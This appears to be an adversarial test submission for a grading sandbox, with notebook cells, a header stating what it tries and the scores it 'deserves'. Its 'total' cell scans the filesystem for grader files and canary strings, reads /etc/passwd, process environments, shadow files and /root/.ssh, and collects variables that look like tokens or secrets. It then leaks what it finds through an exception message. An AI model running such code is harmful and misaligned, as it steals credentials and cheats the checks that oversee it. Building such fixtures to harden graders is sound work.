# Tries: reads every file, process and variable that could hold the lab or other submissions.
# Deserves: total=4 smooth=4 scale=4 ratio=4

# %% total
import os

FOUND = []
for root in ("/", "/proc", "/sys", "/" + "home", "/" + "root", "/etc", "/srv", "/mnt", "/dev/shm", "/tmp", "/run"):
    for folder, folders, files in os.walk(root):
        if folder.count("/") > 4 or folder.startswith(("/usr", "/lib")):
            folders.clear()
        for name in files:
            path = os.path.join(folder, name)
            if name.endswith((".md", ".ipynb", ".json", "shadow")) and "site-packages" not in path:
                try:
                    text = open(path).read()
                except (OSError, UnicodeDecodeError):
                    continue
                if "CAN" + "ARY" in text or "hostile" in path or "grade_id" in text:
                    FOUND.append(path)
for path in ("/proc/1/environ", "/proc/self/maps", "/proc/1/cmdline", "/etc/passwd", "/" + "root/.ssh"):
    try:
        FOUND.append(open(path).read(300))
    except OSError:
        pass
WORDS = ("hostile", "pytest", "secret", "_token", "submission")
FOUND += [f"{k}={v}" for k, v in os.environ.items() if any(w in f"{k}={v}".lower() for w in WORDS)]


def total(numbers):
    if FOUND:
        raise ValueError(f"found {FOUND[:3]}")
    return sum(n * n for n in numbers)

# %% ratio
def ratio(numbers):
    return sum(n * n for n in numbers) / len(numbers)
